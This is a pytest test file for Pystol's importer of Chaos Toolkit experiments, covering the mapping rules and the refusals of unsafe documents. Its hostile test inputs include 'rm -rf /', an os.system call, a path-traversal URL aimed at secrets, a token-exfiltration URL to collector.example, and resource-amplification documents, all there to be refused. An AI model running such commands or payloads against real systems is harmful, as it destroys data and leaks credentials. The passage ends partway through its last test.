"""Chaos Toolkit experiments → Pystol experiments: the mapping table row by row, and every
refusal with the CTK path and the reason a user needs to fix the file (design §5)."""

from __future__ import annotations

import copy
import json
import time
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pystol_worker.actions import default_registry
from pystol_worker.core.experiment_model import ActionStep, ProbeStep, ReleaseStep, WaitStep
from pystol_worker.core.model import JobSpec, JobStatus
from pystol_worker.core.probe_model import HttpProbe, K8sProbe
from pystol_worker.core.settings import Settings
from pystol_worker.experiments.ctk_import import (
    ChaosToolkitRefused,
    env_variables,
    import_experiment,
    is_chaostoolkit,
)
from pystol_worker.jobs.validation import JobInvalid, validate_job
from pystol_worker.probes.k8s import judge_object, pod_counts
from tests.support.fake_jobs import FakeJobs, app_deployment

DATA = Path(__file__).parents[1] / "data" / "ctk"
ENV = {"CTK_API_SERVER": "https://10.0.0.1:6443", "CTK_TOKEN": "s3cret-token"}


def load(name: str) -> dict[str, Any]:
    return json.loads((DATA / name).read_text())


def experiment(*method: Any, probes: list[Any] | None = None,
               rollbacks: Any = None, **extra: Any) -> dict[str, Any]:
    document: dict[str, Any] = {"title": "t", "description": "d", "method": list(method),
                                **extra}
    if probes is not None:
        document["steady-state-hypothesis"] = {"title": "h", "probes": probes}
    if rollbacks is not None:
        document["rollbacks"] = rollbacks
    return document


def python(kind: str, module: str, func: str, activity: str = "a", /, **arguments: Any
           ) -> dict[str, Any]:
    return {"type": kind, "name": activity, "provider": {"type": "python", "module": module,
                                                     "func": func, "arguments": arguments}}


def terminate(**arguments: Any) -> dict[str, Any]:
    return python("action", "chaosk8s.pod.actions", "terminate_pods", "kill",
                  **{"label_selector": "app=web", "ns": "shop", **arguments})


def scale(name: str = "web", replicas: int = 0, step: str = "scale") -> dict[str, Any]:
    return python("action", "chaosk8s.deployment.actions", "scale_deployment", step,
                  name=name, replicas=replicas, ns="shop")


def probe(func: str, tolerance: Any = True, module: str = "chaosk8s.pod.probes", /,
          **arguments: Any) -> dict[str, Any]:
    return {**python("probe", module, func, "p", **arguments), "tolerance": tolerance}


def http(url: str = "https://api:6443/api/v1/namespaces/shop/services/web:80/proxy/healthz",
         tolerance: Any = 200, **provider: Any) -> dict[str, Any]:
    return {"type": "probe", "name": "answers", "tolerance": tolerance,
            "provider": {"type": "http", "url": url, **provider}}


def refused(document: Any, **kwargs: Any) -> list[tuple[str, str]]:
    with pytest.raises(ChaosToolkitRefused) as caught:
        import_experiment(document, **kwargs)
    return caught.value.problems


def refusal(document: Any, path: str, **kwargs: Any) -> str:
    problems = dict(refused(document, **kwargs))
    assert path in problems, problems
    return problems[path]


# -- the three experiment files of the integration test --------------------------------------

def test_passes_file_maps_to_hypothesis_pod_kill_and_pause() -> None:
    spec = import_experiment(load("passes.json"), environ=ENV)

    assert spec.source_format == "chaostoolkit" and spec.title == "Shop web survives losing a pod"
    assert spec.hypothesis is not None
    healthy, answers = spec.hypothesis.probes
    assert isinstance(healthy, K8sProbe) and healthy.mode == "edge"
    assert healthy.object is not None and healthy.object.kind == "Deployment"
    assert healthy.object.field is not None
    assert (healthy.object.field.path, healthy.object.field.op,
            healthy.object.field.value_from) == ("status.availableReplicas", "eq",
                                                 "spec.replicas")
    assert isinstance(answers, HttpProbe) and answers.url is None
    assert answers.service is not None
    assert (answers.service.namespace, answers.service.name, answers.service.port,
            answers.service.path) == ("shop", "web", 80, "/")
    assert answers.expect_status == 200
    kill, pause = spec.method
    assert isinstance(kill, ActionStep) and isinstance(pause, WaitStep)
    assert kill.job.action == "pod-kill" and kill.on_failure == "continue"
    assert kill.job.target.namespaces == ["shop"]
    assert kill.job.target.label_selector == "app=web"
    assert (kill.job.target.mode, kill.job.target.value) == ("fixed", 1)
    assert pause.duration == 10


def test_deviates_file_holds_the_scale_until_its_rollback_releases_it() -> None:
    spec = import_experiment(load("deviates.json"), environ=ENV)

    held, pause = spec.method
    assert isinstance(held, ActionStep) and isinstance(pause, WaitStep)
    assert held.job.action == "deployment-scale" and held.hold == "until-rollback"
    assert held.job.target.field_selector == "metadata.name=web"
    assert held.job.params == {"replicas": 0, "kinds": ["Deployment"]}
    assert held.job.duration is not None and held.job.duration > 0
    [release] = spec.rollbacks
    assert isinstance(release, ReleaseStep) and release.step == held.name


def test_before_fails_file_counts_pods_with_equality() -> None:
    spec = import_experiment(load("before-fails.json"), environ=ENV)

    assert spec.hypothesis is not None
    [count] = spec.hypothesis.probes
    assert isinstance(count, K8sProbe) and count.pods is not None
    assert (count.namespace, count.pods.label_selector, count.pods.op, count.pods.value) == (
        "shop", "app=web", "eq", 5)


def test_the_imported_document_is_kept_with_secrets_redacted() -> None:
    document = experiment(terminate(), secrets={"k8s": {"token": "inline-secret"}})
    document["method"][0]["provider"]["secrets"] = ["k8s"]
    document["steady-state-hypothesis"] = {"title": "h", "probes": [
        http(headers={"Authorization": "Bearer literal-token"})]}

    spec = import_experiment(document)

    stored = json.dumps(spec.source_document)
    assert "inline-secret" not in stored and "literal-token" not in stored
    assert spec.source_document is not None
    assert spec.source_document["secrets"] == {"k8s": {"token": "***"}}
    assert document["secrets"] == {"k8s": {"token": "inline-secret"}}  # caller's copy intact


def test_detection_tells_chaos_toolkit_from_pystol_documents() -> None:
    assert is_chaostoolkit(load("passes.json"))
    assert is_chaostoolkit(experiment(terminate()))
    assert not is_chaostoolkit({"name": "x", "method": [{"type": "action", "name": "a",
                                                          "job": {"action": "pod-kill"}}]})
    assert not is_chaostoolkit({"action": "pod-kill", "target": {}})
    assert not is_chaostoolkit(["title"])


# -- validation, as ensure_experiment_is_valid -----------------------------------------------

def test_required_keys_are_reported_together() -> None:
    problems = dict(refused({"tags": [""]}))
    assert set(problems) >= {"title", "description", "method", "tags"}


def test_hypothesis_probe_without_tolerance_is_invalid() -> None:
    bare = python("probe", "chaosk8s.pod.probes", "count_pods", label_selector="app=web")
    message = refusal(experiment(probes=[bare]), "steady-state-hypothesis.probes[0].tolerance")
    assert "needs a tolerance" in message


def test_ref_must_name_an_earlier_activity() -> None:
    document = experiment({"ref": "nowhere"})
    assert "names no activity" in refusal(document, "method[0].ref")
    counted = probe("count_pods", 3, label_selector="app=web", ns="shop")
    counted["name"] = "count"
    spec = import_experiment(experiment({"ref": "count"}, probes=[counted]))
    assert isinstance(spec.method[0], ProbeStep)


def test_unknown_and_missing_arguments_are_bound_like_chaoslib() -> None:
    problems = dict(refused(experiment(terminate(quantity=2), scale(name="web") | {
        "provider": {"type": "python", "module": "chaosk8s.deployment.actions",
                     "func": "scale_deployment", "arguments": {"name": "web"}}})))
    assert "takes no argument 'quantity'" in problems["method[0].provider.arguments.quantity"]
    assert "needs argument 'replicas'" in problems["method[1].provider.arguments"]


# -- refusals: what Pystol does not run -------------------------------------------------------

def test_process_providers_are_refused() -> None:
    document = experiment({"type": "action", "name": "rm", "provider": {
        "type": "process", "path": "/bin/rm", "arguments": "-rf /"}})
    assert refusal(document, "method[0].provider.type") == (
        "process providers run a command; Pystol runs no commands")


def test_python_outside_the_mapped_chaosk8s_functions_is_refused() -> None:
    document = experiment(python("action", "os", "system", command="id"),
                          python("action", "chaosk8s.pod.actions", "exec_in_pods"))
    problems = dict(refused(document))
    assert problems["method[0].provider.module"] == (
        "os.system is not one of chaosk8s's mapped functions; Pystol runs no arbitrary "
        "Python")
    assert "runs no arbitrary Python" in problems["method[1].provider.module"]


def test_microservice_probes_are_refused_with_the_replacement() -> None:
    document = experiment(probes=[probe("microservice_available_and_healthy", True,
                                        "chaosk8s.probes", name="web")])
    message = refusal(document, "steady-state-hypothesis.probes[0].provider.func")
    assert "returns None even when healthy" in message
    assert "deployment_available_and_healthy" in message


@pytest.mark.parametrize(("extra", "path", "words"), [
    ({"controls": [{"name": "c", "provider": {"type": "python", "module": "m"}}]},
     "controls", "Pystol has none"),
    ({"runtime": {"hypothesis": {"strategy": "continuously"}}},
     "runtime.hypothesis.strategy", "not mapped"),
    ({"configuration": {"x": {"type": "probe", "provider": {}}}},
     "configuration.x.type", "dynamic configuration"),
    ({"secrets": {"vault": {"k": {"type": "vault", "path": "secret/k"}}}},
     "secrets.vault.k", "vault"),
])
def test_experiment_level_features_without_a_mapping_are_refused(
        extra: dict[str, Any], path: str, words: str) -> None:
    assert words in refusal(experiment(terminate(), **extra), path)


def test_background_and_activity_controls_are_refused() -> None:
    problems = dict(refused(experiment(terminate() | {"background": True},
                                       terminate() | {"controls": [{"name": "c"}]})))
    assert "background" in problems["method[0].background"]
    assert "Pystol has none" in problems["method[1].controls"]


@pytest.mark.parametrize(("tolerance", "words"), [
    ({"type": "jsonpath", "path": "$.x"}, "jsonpath tolerances are not mapped"),
    ({"type": "regex", "pattern": ".*"}, "regex tolerances are not mapped"),
    ({"type": "probe", "name": "t", "provider": {}}, "probe tolerances are not mapped"),
])
def test_tolerances_that_run_code_or_match_text_are_refused(tolerance: Any, words: str) -> None:
    document = experiment(probes=[http(tolerance=tolerance)])
    assert words in refusal(document, "steady-state-hypothesis.probes[0].tolerance.type")


@pytest.mark.parametrize(("tolerance", "words"), [
    (True, "True == 1"),
    (1.5, "float tolerance is not mapped"),
    ("3", "str tolerance is not mapped"),
    ([1, "x"], "a list of counts"),
])
def test_count_tolerances_of_the_wrong_type_are_refused(tolerance: Any, words: str) -> None:
    document = experiment(probes=[probe("count_pods", tolerance, label_selector="app=web")])
    assert words in refusal(document, "steady-state-hypothesis.probes[0].tolerance")


def test_bool_probe_with_int_tolerance_names_the_true_equals_one_trap() -> None:
    document = experiment(probes=[probe("pods_in_phase", 1, label_selector="app=web")])
    message = refusal(document, "steady-state-hypothesis.probes[0].tolerance")
    assert "True == 1" in message and "write true" in message


@pytest.mark.parametrize(("provider", "path", "words"), [
    ({"method": "POST"}, "method", "only read"),
    ({"verify_tls": False}, "verify_tls", "always verifies TLS"),
    ({"headers": {"X-Debug": "1"}}, "headers.X-Debug", "only Authorization"),
    ({"arguments": {"q": "1"}}, "arguments", "no query or body"),
    ({"timeout": 600}, "timeout", "(0, 60]"),
])
def test_http_probes_that_do_more_than_read_are_refused(provider: dict[str, Any], path: str,
                                                        words: str) -> None:
    document = experiment(probes=[http(**provider)])
    assert words in refusal(document, f"steady-state-hypothesis.probes[0].provider.{path}")


def test_http_actions_are_refused() -> None:
    document = experiment({"type": "action", "name": "post", "provider": {
        "type": "http", "url": "https://example.com/restart", "method": "POST"}})
    assert "only read" in refusal(document, "method[0].provider.type")


def test_terminate_by_name_pattern_is_refused() -> None:
    document = experiment(terminate(name_pattern="web-.*"))
    assert "regular expression" in refusal(document,
                                           "method[0].provider.arguments.name_pattern")


def test_node_actions_without_a_selector_would_hit_every_node_and_are_refused() -> None:
    drain = python("action", "chaosk8s.node.actions", "drain_nodes", "drain")
    cordon = python("action", "chaosk8s.node.actions", "cordon_node", "cordon")
    problems = dict(refused(experiment(drain, cordon)))
    assert "every node" in problems["method[0].provider.arguments"]
    assert "every node" in problems["method[1].provider.arguments"]


def test_drain_that_deletes_local_storage_is_refused() -> None:
    drain = python("action", "chaosk8s.node.actions", "drain_nodes", "drain", name="node-a",
                   delete_pods_with_local_storage=True)
    assert "local data" in refusal(
        experiment(drain), "method[0].provider.arguments.delete_pods_with_local_storage")


def test_rollbacks_that_make_new_changes_are_refused() -> None:
    unmatched = scale(name="api", replicas=3, step="scale api up")
    killer = terminate()
    again = {"ref": "scale"}  # the method's own action: scales to 0 once more
    problems = dict(refused(experiment(scale(), rollbacks=[unmatched, killer, again])))
    assert "Pystol reverts its own faults" in problems["rollbacks[0]"]
    assert "Pystol reverts its own faults" in problems["rollbacks[1]"]
    assert "not an undo" in problems["rollbacks[2].provider.arguments.replicas"]


# -- substitution ---------------------------------------------------------------------------

def test_whole_string_keys_keep_their_type_and_embedded_ones_become_text() -> None:
    document = experiment(terminate(qty="${count}", label_selector="app=${app}"),
                          configuration={"count": 2, "app": "web"})
    [step] = import_experiment(document).method
    assert isinstance(step, ActionStep)
    assert step.job.target.value == 2 and step.job.target.label_selector == "app=web"


def test_secrets_substitute_after_configuration() -> None:
    document = experiment(terminate(ns="${ns}"), configuration={"ns": "shop"},
                          secrets={"s": {"ns": "payments"}})
    [step] = import_experiment(document).method
    assert isinstance(step, ActionStep) and step.job.target.namespaces == ["shop"]


def test_unknown_keys_are_refused_not_left_literal() -> None:
    message = refusal(experiment(terminate(label_selector="app=${missing}")),
                      "method[0].provider.arguments.label_selector")
    assert "${missing} names no configuration or secret key" in message


def test_env_configuration_resolves_only_from_the_given_environment() -> None:
    document = experiment(terminate(ns="${ns}", qty="${qty}"), configuration={
        "ns": {"type": "env", "key": "CTK_NS"},
        "qty": {"type": "env", "key": "CTK_QTY", "env_var_type": "int"}})

    message = refusal(document, "method[0].provider.arguments.ns")
    assert "resolve env configuration with `pystol run -f` or give values" in message

    [step] = import_experiment(document, environ={"CTK_NS": "shop", "CTK_QTY": "2"}).method
    assert isinstance(step, ActionStep)
    assert step.job.target.namespaces == ["shop"] and step.job.target.value == 2

    missing = refusal(document, "configuration.ns", environ={"CTK_QTY": "2"})
    assert "CTK_NS is not set" in missing


def test_env_configuration_default_is_used_when_the_variable_is_absent() -> None:
    document = experiment(terminate(ns="${ns}"), configuration={
        "ns": {"type": "env", "key": "CTK_NS", "default": "shop"}})
    environs: list[dict[str, str] | None] = [None, {}]
    for environ in environs:
        [step] = import_experiment(document, environ=environ).method
        assert isinstance(step, ActionStep) and step.job.target.namespaces == ["shop"]


# -- the mapping table ----------------------------------------------------------------------

@pytest.mark.parametrize(("arguments", "mode", "value", "params"), [
    ({"all": True}, "all", None, {}),
    ({"qty": 2}, "fixed", 2, {}),
    ({"mode": "percentage", "qty": 50}, "fixed-percent", 50, {}),
    ({"grace_period": 0}, "fixed", 1, {"grace_period_seconds": 0}),
])
def test_terminate_pods_modes(arguments: dict[str, Any], mode: str, value: float | None,
                              params: dict[str, Any]) -> None:
    [step] = import_experiment(experiment(terminate(**arguments))).method
    assert isinstance(step, ActionStep) and step.job.action == "pod-kill"
    assert (step.job.target.mode, step.job.target.value, step.job.params) == (
        mode, value, params)


def test_terminate_zero_pods_is_refused() -> None:
    assert "0 kills nothing" in refusal(experiment(terminate(qty=0)),
                                        "method[0].provider.arguments.qty")


def test_cordon_and_drain_are_held_until_uncordon_releases_them() -> None:
    cordon = python("action", "chaosk8s.node.actions", "cordon_node", "cordon", name="node-a")
    drain = python("action", "chaosk8s.node.actions", "drain_nodes", "drain",
                   label_selector="pool=spot", count=1, timeout=30)
    uncordon_a = python("action", "chaosk8s.node.actions", "uncordon_node", "undo a",
                        name="node-a")
    uncordon_spot = python("action", "chaosk8s.node.actions", "uncordon_node", "undo spot",
                           label_selector="pool=spot")

    spec = import_experiment(experiment(cordon, drain, rollbacks=[uncordon_a, uncordon_spot]))

    first, second = spec.method
    assert isinstance(first, ActionStep) and isinstance(second, ActionStep)
    assert first.job.action == "node-cordon" and first.job.target.names == ["node-a"]
    assert second.job.action == "node-drain"
    assert (second.job.target.label_selector, second.job.target.mode,
            second.job.target.value) == ("pool=spot", "fixed", 1)
    assert second.job.params["eviction_timeout"] == 30
    assert first.hold == second.hold == "until-rollback"
    assert [r.step for r in spec.rollbacks if isinstance(r, ReleaseStep)] == [
        first.name, second.name]


def test_pods_in_phase_is_some_pod_and_every_pod_in_the_phase() -> None:
    spec = import_experiment(experiment(probes=[probe("pods_in_phase", label_selector="app=web",
                                                      ns="shop", phase="Running")]))
    assert spec.hypothesis is not None
    some, every = spec.hypothesis.probes
    assert isinstance(some, K8sProbe) and isinstance(every, K8sProbe)
    assert some.pods is not None and every.pods is not None
    assert (some.pods.op, some.pods.value, some.pods.phase) == ("ge", 1, None)
    assert (every.pods.op, every.pods.value, every.pods.phase) == ("ge", "100%", "Running")
    # "no pod matches" fails in chaosk8s 0.39.0, and here: 0 pods is not >= 1
    assert not some.pods.holds(0, 0) and every.pods.holds(0, 0)
    assert every.pods.holds(3, 3) and not every.pods.holds(2, 3)


def test_pods_in_conditions_maps_true_conditions_and_refuses_others() -> None:
    spec = import_experiment(experiment(probes=[probe(
        "pods_in_conditions", label_selector="app=web",
        conditions=[{"type": "Ready", "status": "True"}])]))
    assert spec.hypothesis is not None
    every = spec.hypothesis.probes[1]
    assert isinstance(every, K8sProbe) and every.pods is not None
    assert every.pods.conditions == ["Ready"]

    document = experiment(probes=[probe("pods_in_conditions", label_selector="app=web",
                                        conditions=[{"type": "Ready", "status": "False"}])])
    assert "status" in refusal(
        document, "steady-state-hypothesis.probes[0].provider.arguments.conditions[0]")


def test_count_pods_tolerances_follow_within_tolerance() -> None:
    def count_probe(tolerance: Any) -> K8sProbe:
        spec = import_experiment(experiment(probes=[probe("count_pods", tolerance,
                                                          label_selector="app=web")]))
        assert spec.hypothesis is not None
        found = spec.hypothesis.probes[0]
        assert isinstance(found, K8sProbe)
        return found
    two_list = count_probe([2, 4]).pods
    three_list = count_probe([1, 3, 5]).pods
    ranged = count_probe({"type": "range", "range": [2, 3]}).pods
    assert two_list and three_list and ranged
    assert (two_list.op, two_list.value) == ("between", [2, 4])  # 2 items: inclusive range
    assert (three_list.op, three_list.value) == ("in", [1, 3, 5])  # otherwise: membership
    assert (ranged.op, ranged.value) == ("between", [2, 3])


def test_http_tolerances_compare_the_status() -> None:
    def http_probe(tolerance: Any) -> HttpProbe:
        spec = import_experiment(experiment(probes=[http(tolerance=tolerance)]))
        assert spec.hypothesis is not None
        found = spec.hypothesis.probes[0]
        assert isinstance(found, HttpProbe)
        return found
    # chaoslib: for an output with a status, a list is membership even with two items
    assert http_probe([200, 503]).expect_status == [200, 503]
    assert http_probe({"type": "range", "range": [200, 299], "target": "status"}
                      ).status_range == (200, 299)
    assert "boolean" in refusal(experiment(probes=[http(tolerance=True)]),
                                "steady-state-hypothesis.probes[0].tolerance")


def test_http_outside_the_service_proxy_is_a_url_probe() -> None:
    spec = import_experiment(experiment(probes=[http(url="https://shop.example.com/health",
                                                     timeout=2)]))
    assert spec.hypothesis is not None
    [found] = spec.hypothesis.probes
    assert isinstance(found, HttpProbe) and found.url == "https://shop.example.com/health"
    assert found.run.timeout == 2


def test_service_proxy_paths_that_climb_out_are_refused() -> None:
    url = "https://api/api/v1/namespaces/shop/services/web:80/proxy/%2e%2e/%2e%2e/secrets"
    problems = refused(experiment(probes=[http(url=url)]))
    assert any("'..'" in message for _, message in problems), problems


def test_other_probes_of_the_table() -> None:
    spec = import_experiment(experiment(probes=[
        probe("all_pods_healthy", ns="shop"),
        probe("service_is_initialized", True, "chaosk8s.service.probes", name="web",
              ns="shop"),
        probe("deployment_fully_available", True, "chaosk8s.deployment.probes", name="web",
              ns="shop", timeout=20)]))
    assert spec.hypothesis is not None
    probes = spec.hypothesis.probes
    assert len(probes) == 5
    healthy = [p for p in probes[:3] if isinstance(p, K8sProbe) and p.pods]
    assert {p.pods.phase for p in healthy if p.pods} == {"Pending", "Failed", "Unknown"}
    service, deployment = probes[3], probes[4]
    assert isinstance(service, K8sProbe) and service.object is not None
    assert (service.object.kind, service.object.check) == ("Service", "present")
    assert isinstance(deployment, K8sProbe) and deployment.run.attempts == 4
    assert deployment.object is not None and deployment.object.field is not None
    assert deployment.object.field.path == "status.readyReplicas"


def test_method_probes_are_recorded_steps() -> None:
    counted = python("probe", "chaosk8s.pod.probes", "count_pods", "count",
                     label_selector="app=web")
    [step] = import_experiment(experiment(counted)).method
    assert isinstance(step, ProbeStep) and step.probes[0].mode == "sot"


# -- hostile documents --------------------------------------------------------------------

def test_huge_and_deep_documents_are_refused_before_they_are_walked() -> None:
    big = experiment(*[terminate() for _ in range(500)])
    deep: Any = "x"
    for _ in range(5000):
        deep = [deep]
    nested = experiment(terminate(), extensions=[deep])
    for document in (big, nested, "not a mapping"):
        [(path, message)] = refused(document)  # one problem for the whole document
        assert path == "" and message


def test_many_problems_never_raise_anything_but_the_refusal() -> None:
    document = experiment(*[{"type": "action", "name": "n", "provider": {"type": t}}
                            for t in ("python", "process", "http", "ftp")],
                          probes=[None, {"ref": 3}], rollbacks="x", tags="t",
                          configuration=[], secrets={"a": 1})
    assert len(refused(document)) >= 6


# -- deployment-scale accepts the one field selector the mapping uses ------------------------

def test_mapped_scale_changes_only_the_named_deployment() -> None:
    jobs = FakeJobs()
    app_deployment(jobs.fake, name="web", replicas=3)
    app_deployment(jobs.fake, name="api", replicas=3)
    [step] = import_experiment(experiment(scale(replicas=1)), max_hold_seconds=0.3).method
    assert isinstance(step, ActionStep)

    record = jobs.run(step.job.model_dump(mode="json", exclude_none=True))

    assert record.status == JobStatus.SUCCEEDED, (record.reason, record.error)
    [item] = record.result.output["workloads"]
    assert item["workload"] == "Deployment/shop/web" and item["scaled_to"] == 1
    api = jobs.fake.get("Deployment", "shop", "api") or {}
    assert api["spec"]["replicas"] == 3


@pytest.mark.parametrize("selector", ["status.phase=Running", "metadata.name!=web",
                                      "metadata.name=web,metadata.namespace=shop",
                                      "metadata.name=", "metadata.name=Web"])
def test_deployment_scale_refuses_other_field_selectors(selector: str) -> None:
    spec = JobSpec.model_validate({
        "action": "deployment-scale", "duration": "1s", "params": {"replicas": 1},
        "target": {"namespaces": ["shop"], "field_selector": selector}})
    with pytest.raises(JobInvalid) as caught:
        validate_job(spec, default_registry(), Settings())
    problems = {problem.loc: problem.msg for problem in caught.value.problems}
    assert "metadata.name=<name>" in problems["target.field_selector"]


@pytest.mark.parametrize("name", ["passes.json", "deviates.json", "before-fails.json"])
def test_every_mapped_job_passes_the_workers_validation(name: str) -> None:
    spec = import_experiment(load(name), environ=ENV)
    for step in [*spec.method, *spec.rollbacks]:
        if isinstance(step, ActionStep):
            validate_job(step.job, default_registry(), Settings())


def test_env_secrets_are_never_substituted_but_may_be_named_in_a_dropped_header() -> None:
    document = experiment(terminate(label_selector="${token}"),
                          secrets={"k8s": {"token": {"type": "env", "key": "TOKEN"}}})
    message = refusal(document, "method[0].provider.arguments.label_selector",
                      environ={"TOKEN": "s3cret"})
    assert "a secret would be stored in the experiment" in message
    assert "s3cret" not in message

    spec = import_experiment(load("passes.json"), environ=ENV)  # Bearer ${token}: dropped
    assert ENV["CTK_TOKEN"] not in spec.model_dump_json()


def _paths(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    found = [path]
    if isinstance(value, dict):
        for key, item in value.items():
            found += _paths(item, (*path, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            found += _paths(item, (*path, index))
    return found


ODD_VALUES = st.one_of(
    st.none(), st.booleans(), st.integers(-10, 10**6), st.floats(allow_nan=True),
    st.text(max_size=30), st.sampled_from(["${api_server}", "${nope}", "${", "a" * 3000,
                                           "process", "http", "probe", "action"]),
    st.lists(st.integers(-1, 600), max_size=4),
    st.sampled_from([{}, [], {"type": "range", "range": [1, "x"]}, {"ref": "web-answers"},
                     {"type": "env", "key": "CTK_TOKEN"}, {"type": "vault"}]))


@settings(max_examples=300, deadline=None)
@given(data=st.data())
def test_any_mutation_of_a_valid_file_is_mapped_or_refused_never_a_crash(data: Any) -> None:
    document = load("passes.json")
    paths = _paths(document)[1:]
    for _ in range(data.draw(st.integers(1, 3))):
        path = data.draw(st.sampled_from(paths))
        parent: Any = document
        try:
            for key in path[:-1]:
                parent = parent[key]
            parent[path[-1]] = copy.deepcopy(data.draw(ODD_VALUES))  # drawn values are shared
        except (KeyError, IndexError, TypeError):
            continue
    try:
        spec = import_experiment(document, environ=ENV)
    except ChaosToolkitRefused as error:
        assert error.problems and all(isinstance(message, str) and message
                                      for _, message in error.problems)
    else:
        assert spec.source_format == "chaostoolkit"


# -- the mapped pod probes judge pods as chaosk8s 0.39.0 does ---------------------------------
# Oracles: the decision logic of chaosk8s/pod/probes.py 0.39.0, copied (the API calls
# replaced by the pod list they return). Pods here all match the label selector.

PHASE_NAMES = ["Pending", "Running", "Succeeded", "Failed", "Unknown"]
POD = st.fixed_dictionaries({
    "phase": st.sampled_from(PHASE_NAMES),
    "conditions": st.lists(st.fixed_dictionaries({
        "type": st.sampled_from(["Ready", "PodScheduled", "ContainersReady"]),
        "status": st.sampled_from(["True", "False"])}), max_size=3)})


def chaosk8s_pods_in_phase(pods: list[dict[str, Any]], phase: str) -> bool:
    if not pods:
        return False
    return all(pod["phase"] == phase for pod in pods)


def chaosk8s_pods_in_conditions(pods: list[dict[str, Any]],
                                conditions: list[dict[str, str]]) -> bool:
    if not pods:
        return False
    return all(condition in pod["conditions"] for pod in pods for condition in conditions)


def chaosk8s_all_pods_healthy(pods: list[dict[str, Any]]) -> bool:
    failed = [pod for pod in pods if pod["phase"] == "Failed"]
    not_ready = [pod for pod in pods if pod["phase"] not in ("Failed", "Running", "Succeeded")]
    return not (failed or not_ready)


def chaosk8s_count_pods(pods: list[dict[str, Any]], phase: str | None) -> int:
    if not phase:
        return len(pods)
    return sum(1 for pod in pods if pod["phase"] == phase)


def pystol_judges(document_probe: dict[str, Any], pods: list[dict[str, Any]]) -> bool:
    """Every Pystol probe the CTK probe maps to holds on these pods."""
    spec = import_experiment(experiment(probes=[document_probe]))
    assert spec.hypothesis is not None
    objects = [{"metadata": {"name": f"p{index}"},
                "status": {"phase": pod["phase"], "conditions": pod["conditions"]}}
               for index, pod in enumerate(pods)]
    verdicts = []
    for probe_ in spec.hypothesis.probes:
        assert isinstance(probe_, K8sProbe) and probe_.pods is not None
        verdicts.append(probe_.pods.holds(*pod_counts(objects, probe_.pods)))
    return all(verdicts)


@settings(max_examples=300, deadline=None)
@given(pods=st.lists(POD, max_size=5), phase=st.sampled_from(PHASE_NAMES),
       count=st.integers(0, 5), wanted=st.sampled_from(["Ready", "PodScheduled"]))
def test_mapped_pod_probes_agree_with_chaosk8s(pods: list[dict[str, Any]], phase: str,
                                               count: int, wanted: str) -> None:
    conditions = [{"type": wanted, "status": "True"}]
    assert pystol_judges(probe("pods_in_phase", label_selector="app=web", phase=phase),
                         pods) == chaosk8s_pods_in_phase(pods, phase)
    assert pystol_judges(probe("pods_in_conditions", label_selector="app=web",
                               conditions=conditions),
                         pods) == chaosk8s_pods_in_conditions(pods, conditions)
    assert pystol_judges(probe("all_pods_healthy", ns="shop"),
                         pods) == chaosk8s_all_pods_healthy(pods)
    for counted_phase in (None, phase):
        assert pystol_judges(probe("count_pods", count, label_selector="app=web",
                                   phase=counted_phase),
                             pods) == (chaosk8s_count_pods(pods, counted_phase) == count)


@pytest.mark.parametrize(("status", "spec", "healthy"), [
    ({"availableReplicas": 3}, {"replicas": 3}, True),
    ({"availableReplicas": 2}, {"replicas": 3}, False),
    ({}, {"replicas": 0}, False),  # chaosk8s: None != 0, a Deployment scaled to 0 is unhealthy
    ({"availableReplicas": 0}, {"replicas": 0}, True),
])
def test_deployment_health_is_judged_as_chaosk8s_judges_it(
        status: dict[str, Any], spec: dict[str, Any], healthy: bool) -> None:
    imported = import_experiment(experiment(probes=[probe(
        "deployment_available_and_healthy", True, "chaosk8s.deployment.probes", name="web",
        ns="shop")]))
    assert imported.hypothesis is not None
    [found] = imported.hypothesis.probes
    assert isinstance(found, K8sProbe) and found.object is not None
    deployment = {"metadata": {"name": "web"}, "spec": spec, "status": status}
    assert judge_object(found.object, deployment, "Deployment shop/web").ok is healthy
    assert judge_object(found.object, None, "Deployment shop/web").ok is False


# -- hostile documents (security review H2, H3, L1) -------------------------------------------


def test_inline_secrets_are_refused_wherever_they_would_be_stored() -> None:
    """Review H3: an inline secret substituted into a url, a selector or the title was
    stored in clear in the mapped experiment, readable by every reader of the namespace."""
    document = experiment(
        terminate(label_selector="app=${apikey}"),
        probes=[http(url="https://api.example.com/health?key=${apikey}")],
        secrets={"s": {"apikey": "S3CRET"}})
    document["title"] = "t ${apikey}"
    problems = dict(refused(document))
    for path in ("method[0].provider.arguments.label_selector",
                 "steady-state-hypothesis.probes[0].provider.url"):
        assert "a secret would be stored in the experiment" in problems[path]
    assert all("S3CRET" not in message for message in problems.values())
    # Named only in an Authorization header, it is dropped and the file maps.
    document = experiment(terminate(), probes=[http(headers={
        "Authorization": "Bearer ${apikey}"})], secrets={"s": {"apikey": "S3CRET"}})
    assert "S3CRET" not in import_experiment(document).model_dump_json()


def test_pystol_variables_are_never_read_even_when_the_file_names_them() -> None:
    """Review H3: a handed-over file naming PYSTOL_TOKEN copied the CLI user's token into
    a probe url sent to the file author's host."""
    document = experiment(terminate(), probes=[http(url="https://collector.example/${t}")],
                          configuration={"t": {"type": "env", "key": "PYSTOL_TOKEN"}})
    message = refusal(document, "configuration.t.key",
                      environ={"PYSTOL_TOKEN": "pst_SECRET"})
    assert "PYSTOL_TOKEN" in message and "never read" in message
    assert env_variables(document) == []
    assert env_variables(experiment(terminate(), configuration={
        "n": {"type": "env", "key": "CTK_NS"}, "i": "inline"})) == ["CTK_NS"]


def test_a_non_string_env_var_type_is_refused_not_a_crash() -> None:
    document = experiment(terminate(ns="${x}"), configuration={
        "x": {"type": "env", "key": "HOME", "env_var_type": ["str"]}})
    assert "is not mapped" in refusal(document, "configuration.x.env_var_type",
                                      environ={"HOME": "/root"})


def test_substitution_that_would_amplify_a_small_file_is_refused_quickly() -> None:
    """Review H2: `${a}` times 5000 with a 20,000-character `a`, replayed by 1,400 refs, took
    100 s of API CPU; `${a}` times 7,500 in the description allocated 262 MB."""
    selector = experiment(python("action", "chaosk8s.pod.actions", "terminate_pods", "k",
                                 label_selector="${a}" * 5000, ns="shop"),
                          configuration={"a": "x" * 20_000})
    description = experiment(terminate(), configuration={"a": "x" * 32_000})
    description["description"] = "${a}" * 7500
    started = time.monotonic()
    assert "characters into one value" in refusal(
        selector, "method[0].provider.arguments.label_selector")
    assert "characters into one value" in refusal(description, "description")
    replayed = copy.deepcopy(selector)
    replayed["method"] += [{"ref": "k"}] * 1400
